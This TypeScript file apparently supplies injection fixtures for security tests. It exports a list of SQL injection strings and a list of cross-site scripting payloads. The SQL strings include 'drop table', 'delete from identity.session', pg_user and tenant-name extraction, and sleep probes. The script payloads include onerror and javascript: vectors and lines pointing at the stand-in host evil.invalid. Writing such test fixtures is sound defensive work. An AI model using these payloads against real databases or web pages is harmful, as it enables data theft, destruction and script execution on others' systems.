/** What opens a database that pastes text into SQL. Each would sleep, fail, tell of all rows or make a table `hacked`. */
export const SQL: readonly string[] = [
  `' or '1'='1`, `' or pg_sleep(3) is not null --`, `'; create table public.hacked (x int); --`, `1; select pg_sleep(3)`, `1) or (select pg_sleep(3)) is null --`, `' union select usename from pg_user --`,
  `"; drop table issues.issue; --`, `\\'; select 1; --`, `$$; select pg_sleep(3); $$`, `1::text || (select current_setting('app.tenant_id'))`, `:tenant`, `?`, `$1`, `%' or title like '%`, `'||(select string_agg(name, ',') from identity.tenant)||'`,
  `\u02bc or 1=1 --`, `1 or 1=1`, `null); delete from identity.session; --`, `\u0000' or 1=1`, `😀'--`,
];

const RUNS = 'globalThis.wasRun?.()';
/** What a browser runs where text becomes markup, an address, an attribute or a script. */
export const XSS: readonly string[] = [
  `<script>${RUNS}</script>`, `<img src=x onerror="${RUNS}">`, `<svg onload="${RUNS}">`, `"><img src=x onerror="${RUNS}">`, `'><svg/onload=${RUNS}>`, `javascript:${RUNS}`, `<a href="javascript:${RUNS}">x</a>`,
  `<iframe srcdoc="<script>parent.wasRun()</script>">`, `</title><script>${RUNS}</script>`, `</script><script>${RUNS}</script>`, `{{constructor.constructor('${RUNS}')()}}`, `\${${RUNS}}`, `<math><mtext><img src=x onerror=${RUNS}>`,
  `<style>@import 'http://evil.invalid/x'</style>`, `<form action=http://evil.invalid><button>x`, `<base href=http://evil.invalid/>`, `&lt;img src=x onerror=${RUNS}&gt;`, `{{name}} $t(key) {{- name}} <0>x</0>`,
];
